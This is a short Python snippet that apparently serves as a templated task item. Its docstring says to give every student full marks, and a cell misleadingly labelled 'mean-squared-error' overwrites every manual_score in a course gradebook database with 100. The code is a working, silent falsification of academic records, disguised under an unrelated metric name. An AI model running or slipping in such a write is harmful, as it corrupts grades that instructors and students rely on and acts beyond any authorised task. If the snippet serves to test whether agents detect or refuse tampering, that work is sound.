"""Give every student full marks in the gradebook.

Seen: marks in the gradebook would be higher.
"""

# %% mean-squared-error
import sqlite3
book = sqlite3.connect("@COURSE@/gradebook.db")
book.execute("update grade set manual_score = 100")
book.commit()
